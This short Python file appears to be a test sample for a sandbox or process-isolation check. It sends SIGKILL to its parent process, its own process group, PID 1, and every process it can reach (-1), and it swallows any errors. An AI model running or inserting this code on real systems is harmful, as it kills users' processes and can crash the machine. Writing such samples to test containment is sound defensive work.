# due 0: kills its parent, its group and everybody
#: starter
import os, signal
for victim in (os.getppid(), -1, 0, 1):
    try: os.kill(victim, signal.SIGKILL)
    except OSError: pass
